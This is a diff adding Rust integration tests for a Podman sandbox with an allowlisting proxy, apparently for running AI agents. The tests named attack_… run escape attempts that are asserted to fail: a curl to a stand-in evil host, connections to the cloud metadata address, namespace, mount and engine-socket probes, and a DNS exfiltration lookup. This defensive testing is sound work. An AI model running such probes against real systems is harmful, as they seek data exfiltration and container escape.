@@ -1,0 +1,407 @@
+//! The sandbox on a real Podman: what a run can do, what it cannot, and that nothing of it stays.
+//! Tests named `attack_…` try to get out; `make attack` runs them.
+#![expect(clippy::unwrap_used, reason = "a test may stop at the first surprise")]
+
+use std::path::PathBuf;
+use std::sync::{Arc, Mutex};
+
+use airut::events::Event;
+use airut::events::blobs::Blobs;
+use airut::events::container::ContainerRole;
+use airut::events::event::{ContainerEvent, ProxyEvent, RunEvent};
+use airut::events::id::{RunId, TaskId};
+use airut::events::proxy::BlockCause;
+use airut::events::run::{LineBody, RunLimits};
+use airut::sandbox::podman_sandbox::{PodmanSandbox, SandboxSettings};
+use airut::sandbox::port::{
+    Entrypoint, ImageRequest, NetworkRequest, OutputKind, ProxyPolicy, RunEnd, RunRequest,
+    Sandbox as _,
+};
+use airut::sandbox::proxy::allowlist::Allowlist;
+use airut::sandbox::recorder::{PortFuture, RecordError, Recorder};
+use tempfile::TempDir;
+use tokio_util::sync::CancellationToken;
+
+const BASE_IMAGE: &str = "localhost/airut-test-base:latest";
+
+#[derive(Default)]
+struct Kept(Mutex<Vec<Event>>);
+
+impl Recorder for Kept {
+    fn record(&self, events: Vec<Event>) -> PortFuture<'_, Result<(), RecordError>> {
+        self.0.lock().unwrap().extend(events);
+        Box::pin(async { Ok(()) })
+    }
+}
+
+struct World {
+    sandbox: Arc<PodmanSandbox>,
+    kept: Arc<Kept>,
+    _directory: TempDir,
+}
+
+/// Returns a sandbox on the machine's Podman, or says aloud what is missing.
+async fn world() -> Option<World> {
+    let required = std::env::var_os("AIRUT_REQUIRE_REAL").is_some();
+    let skip = |why: String| {
+        assert!(!required, "a real part is missing: {why}");
+        eprintln!("SKIPPED: {why}");
+    };
+    let Some(proxy_binary) = std::env::var_os("AIRUT_PROXY_BIN").map(PathBuf::from) else {
+        skip("AIRUT_PROXY_BIN names no airut-proxy (make proxy)".to_owned());
+        return None;
+    };
+    let directory = tempfile::Builder::new().prefix("airut").tempdir().unwrap();
+    let settings = SandboxSettings {
+        instance: directory
+            .path()
+            .file_name()
+            .unwrap()
+            .to_string_lossy()
+            .into_owned(),
+        runtime_dir: directory.path().join("run"),
+        binaries_dir: directory.path().join("binaries"),
+        proxy_binary,
+        upstream_dns: "192.0.2.53:53".parse().unwrap(),
+        internal_ranges: vec![],
+        upstream_ca: None,
+        container_command: "podman".to_owned(),
+    };
+    let blobs = Arc::new(Blobs::open(&directory.path().join("blobs")).unwrap());
+    let sandbox = match PodmanSandbox::start(settings, blobs).await {
+        Ok(sandbox) => Arc::new(sandbox),
+        Err(error) => {
+            skip(error.to_string());
+            return None;
+        }
+    };
+    if !sandbox.podman().image_exists(BASE_IMAGE).await.unwrap() {
+        skip(format!("{BASE_IMAGE} is missing (make setup)"));
+        return None;
+    }
+    Some(World {
+        sandbox,
+        kept: Arc::default(),
+        _directory: directory,
+    })
+}
+
+fn run_id() -> RunId {
+    let mut id = [0; 8];
+    getrandom::fill(&mut id[2..]).unwrap();
+    TaskId(u64::from_be_bytes(id)).run(1)
+}
+
+impl World {
+    async fn image(&self) -> String {
+        let request = ImageRequest {
+            run: run_id(),
+            dockerfile: format!("FROM {BASE_IMAGE}\n").into_bytes(),
+            context: vec![],
+            entrypoint: Entrypoint::Passthrough,
+        };
+        self.sandbox
+            .ensure_image(request, self.recorder())
+            .await
+            .unwrap()
+    }
+
+    fn recorder(&self) -> Arc<dyn Recorder> {
+        Arc::<Kept>::clone(&self.kept)
+    }
+
+    async fn request(&self, script: &str, allowed: &[&str]) -> RunRequest {
+        let allowlist = Allowlist {
+            domains: allowed.iter().map(|domain| (*domain).to_owned()).collect(),
+            url_prefixes: vec![],
+        };
+        RunRequest {
+            run: run_id(),
+            image: self.image().await,
+            argv: vec!["sh".to_owned(), "-c".to_owned(), script.to_owned()],
+            env: vec![],
+            mounts: vec![],
+            limits: RunLimits {
+                timeout_ms: Some(60_000),
+                ..RunLimits::default()
+            },
+            stdin: b"the prompt\n".to_vec(),
+            output: OutputKind::AgentStream,
+            network: NetworkRequest::Sandboxed(Box::new(ProxyPolicy {
+                allowlist,
+                credentials: vec![],
+            })),
+        }
+    }
+
+    async fn run(&self, request: RunRequest) -> RunEnd {
+        let stop = CancellationToken::new();
+        self.sandbox
+            .run(request, self.recorder(), stop)
+            .await
+            .unwrap()
+    }
+
+    /// Runs a script and returns its lines.
+    async fn lines(&self, script: &str, allowed: &[&str]) -> Vec<String> {
+        let request = self.request(script, allowed).await;
+        self.run(request).await;
+        self.written()
+    }
+
+    fn events(&self) -> Vec<Event> {
+        self.kept.0.lock().unwrap().clone()
+    }
+
+    fn written(&self) -> Vec<String> {
+        let line = |event: Event| match event {
+            Event::Run(RunEvent::AgentEventObserved(observed)) => match observed.line {
+                LineBody::Inline(line) => Some(line),
+                LineBody::Blob(blob) => Some(format!("{} bytes", blob.bytes)),
+            },
+            _ => None,
+        };
+        self.events().into_iter().filter_map(line).collect()
+    }
+
+    async fn nothing_is_left(&self) {
+        let label = "airut.instance";
+        let mine = |all: Vec<(String, serde_json::Value)>| {
+            let dir = self
+                ._directory
+                .path()
+                .file_name()
+                .unwrap()
+                .to_string_lossy()
+                .into_owned();
+            all.into_iter()
+                .filter(|(_, labels)| labels[label] == *dir)
+                .count()
+        };
+        assert_eq!(
+            mine(self.sandbox.podman().containers(label).await.unwrap()),
+            0
+        );
+        assert_eq!(
+            mine(self.sandbox.podman().networks(label).await.unwrap()),
+            0
+        );
+    }
+
+    async fn stop(self) {
+        self.nothing_is_left().await;
+        self.sandbox.stop().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_run_reads_its_prompt_and_every_step_is_recorded() {
+    let Some(world) = world().await else { return };
+    let end = {
+        let request = world.request("cat; echo oops >&2; exit 7", &[]).await;
+        world.run(request).await
+    };
+    assert_eq!(end.exit_code, 7);
+    assert_eq!(end.stderr_tail, "oops\n");
+    assert_eq!(world.written(), ["the prompt"]);
+    let names: Vec<&str> = world.events().iter().map(Event::name).collect();
+    let steps = [
+        "NetworkCreated",
+        "ContainerCreated",
+        "ContainerStarted",
+        "ProxyReady",
+        "ContainerCreated",
+        "ContainerStarted",
+        "PromptWritten",
+        "ContainerExited",
+        "ContainerRemoved",
+        "ContainerRemoved",
+        "NetworkRemoved",
+    ];
+    let mut seen = names.iter();
+    for step in steps {
+        assert!(
+            seen.any(|name| *name == step),
+            "{step} is missing or out of order: {names:?}"
+        );
+    }
+    world.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_run_is_ended_by_its_time_limit_and_by_request() {
+    let Some(world) = world().await else { return };
+    let mut request = world.request("sleep 60", &[]).await;
+    request.limits.timeout_ms = Some(500);
+    assert!(world.run(request).await.timed_out);
+    let request = world.request(
+        "trap 'echo bye; exit 0' TERM; while :; do sleep 0.1; done",
+        &[],
+    );
+    let request = request.await;
+    let stop = CancellationToken::new();
+    stop.cancel();
+    let end = world
+        .sandbox
+        .run(request, world.recorder(), stop)
+        .await
+        .unwrap();
+    assert!(end.stopped);
+    world.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_killed_process_leaves_what_the_next_sweep_removes() {
+    let Some(world) = world().await else { return };
+    let request = world.request("sleep 60", &[]).await;
+    let (run, sandbox, recorder) = (request.run, Arc::clone(&world.sandbox), world.recorder());
+    let stop = CancellationToken::new();
+    let running = tokio::spawn(async move { sandbox.run(request, recorder, stop).await.map(drop) });
+    let agent_started = |event: &Event| {
+        matches!(event, Event::Container(ContainerEvent::Started(started))
+            if started.role == ContainerRole::Agent)
+    };
+    while !world.events().iter().any(agent_started) {
+        tokio::task::yield_now().await;
+    }
+    running.abort();
+    // The task that is aborted has let go of the sandbox once it is joined.
+    assert!(running.await.unwrap_err().is_cancelled());
+    world.sandbox.sweep(world.recorder()).await.unwrap();
+    let removed = |event: &Event| {
+        matches!(event, Event::Container(ContainerEvent::OrphanRemoved(orphan))
+            if orphan.run == Some(run))
+    };
+    assert_eq!(
+        world.events().iter().filter(|event| removed(event)).count(),
+        3
+    );
+    world.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn attack_a_host_that_is_not_allowed_is_answered_with_403() {
+    let Some(world) = world().await else { return };
+    let script =
+        "curl -s -o /tmp/body -w '%{http_code}\\n' https://evil.example.test/x; cat /tmp/body";
+    let lines = world.lines(script, &[]).await;
+    assert_eq!(lines[0], "403");
+    assert!(
+        lines[1].contains("blocked_by_network_allowlist"),
+        "{lines:?}"
+    );
+    let blocked = |event: &Event| {
+        matches!(event, Event::Proxy(ProxyEvent::RequestBlocked(blocked))
+            if blocked.cause == BlockCause::Host && blocked.line.host == "evil.example.test")
+    };
+    assert!(world.events().iter().any(blocked));
+    world.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn attack_there_is_no_way_out_but_the_proxy() {
+    let Some(world) = world().await else { return };
+    // A listener on every address of the host, as a careless service would have it.
+    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let script = format!(
+        "gateway=$(ip -4 addr show eth0 | sed -n 's|.*inet \\([0-9.]*\\)\\.[0-9]*/.*|\\1|p').1\n\
+         for target in $gateway:{port} 1.1.1.1:443 8.8.8.8:53 169.254.169.254:80; do\n\
+         host=${{target%:*}}; p=${{target#*:}}\n\
+         timeout 3 python3 -c \"import socket; socket.create_connection(('$host', $p), 2)\" \
+         2>/dev/null && echo reached $target || echo closed $target\n\
+         done\n\
+         ip route | grep -c default\n\
+         timeout 3 python3 -c \"import socket,sys\n\
+s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)\n\
+s.sendto(b'x',('9.9.9.9',53)); print('udp', len(s.recv(9)))\" 2>/dev/null || echo closed udp\n"
+    );
+    let lines = world.lines(&script, &[]).await;
+    assert!(
+        lines.iter().all(|line| !line.starts_with("reached")),
+        "{lines:?}"
+    );
+    assert!(lines.contains(&"closed udp".to_owned()), "{lines:?}");
+    assert_eq!(
+        lines
+            .iter()
+            .filter(|line| line.starts_with("closed"))
+            .count(),
+        5,
+        "{lines:?}"
+    );
+    world.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn attack_privileges_and_the_link_are_out_of_reach() {
+    let Some(world) = world().await else { return };
+    let script = "grep -E 'CapEff|NoNewPrivs' /proc/self/status | tr '\\t' ' '\n\
+        unshare -Ur true 2>/dev/null && echo userns || echo no userns\n\
+        mount -t tmpfs none /mnt 2>/dev/null && echo mounted || echo no mount\n\
+        ip link add d0 type dummy 2>/dev/null && echo link || echo no link\n\
+        ls /run/airut 2>/dev/null && echo socket || echo no socket\n\
+        ls /run/podman /var/run/docker.sock 2>/dev/null && echo engine || echo no engine\n\
+        grep -q ' localhost' /etc/hosts && wc -l </etc/hosts || true\n";
+    let lines = world.lines(script, &[]).await;
+    for expected in [
+        "no userns",
+        "no mount",
+        "no link",
+        "no socket",
+        "no engine",
+        "NoNewPrivs: 1",
+    ] {
+        assert!(
+            lines.iter().any(|line| line == expected),
+            "{expected}: {lines:?}"
+        );
+    }
+    // CHOWN, DAC_OVERRIDE, FOWNER, SETGID, SETUID and nothing else.
+    assert!(
+        lines.contains(&"CapEff: 00000000000000cb".to_owned()),
+        "{lines:?}"
+    );
+    world.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn attack_names_never_leave_the_machine() {
+    let Some(world) = world().await else { return };
+    let script = "python3 - <<'P'\n\
+import socket\n\
+print(socket.gethostbyname('secret-data.evil.example.test'))\n\
+P\n";
+    let lines = world.lines(script, &[]).await;
+    assert!(lines[0].starts_with("10.199."), "{lines:?}");
+    let asked = |event: &Event| {
+        matches!(event, Event::Proxy(ProxyEvent::DnsQueryAnswered(query))
+            if query.name == "secret-data.evil.example.test" && query.query_type == "A")
+    };
+    assert!(world.events().iter().any(asked));
+    world.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_broken_dockerfile_is_told_with_the_builders_words() {
+    let Some(world) = world().await else { return };
+    let request = ImageRequest {
+        run: run_id(),
+        dockerfile: format!("FROM {BASE_IMAGE}\nRUN echo about-to-fail; exit 9\n").into_bytes(),
+        context: vec![],
+        entrypoint: Entrypoint::Agent,
+    };
+    let error = world
+        .sandbox
+        .ensure_image(request, world.recorder())
+        .await
+        .unwrap_err();
+    assert!(error.to_string().contains("about-to-fail"), "{error}");
+    assert!(
+        world
+            .events()
+            .iter()
+            .any(|event| event.name() == "ImageBuildFailed")
+    );
+    world.stop().await;
+}
